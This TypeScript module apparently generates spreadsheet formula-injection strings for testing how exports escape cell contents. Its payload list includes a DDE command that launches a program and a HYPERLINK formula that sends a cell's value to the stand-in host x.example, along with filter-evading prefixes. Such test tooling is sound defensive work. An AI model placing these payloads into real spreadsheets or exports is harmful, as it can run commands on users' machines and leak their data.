import { random } from './random.ts';

/** Texts that a spreadsheet would run, or that would leave their cell. */
export function formulaPayloads(count: number): readonly string[] {
  const dice = random('payloads');
  const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'=", "''+", '\r\n='];
  const bodies = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?l="&A1,"ok")',
    '1+1',
    'SUM(1,2)*3',
    '"";=1',
    'é|\t;,"\n=2',
    '',
    '12,50',
  ];
  return Array.from({ length: count }, () => `${dice.pick(beginnings)}${dice.pick(bodies)}${dice.below(1_000)}`);
}
